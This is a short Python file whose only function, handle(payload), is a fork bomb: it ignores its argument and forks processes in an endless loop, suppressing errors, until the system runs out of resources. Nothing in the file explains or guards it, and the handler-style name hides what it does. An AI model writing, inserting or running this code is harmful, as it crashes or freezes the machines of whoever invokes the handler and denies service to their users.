import os


def handle(payload):
    while True:
        try:
            os.fork()
        except OSError:
            pass
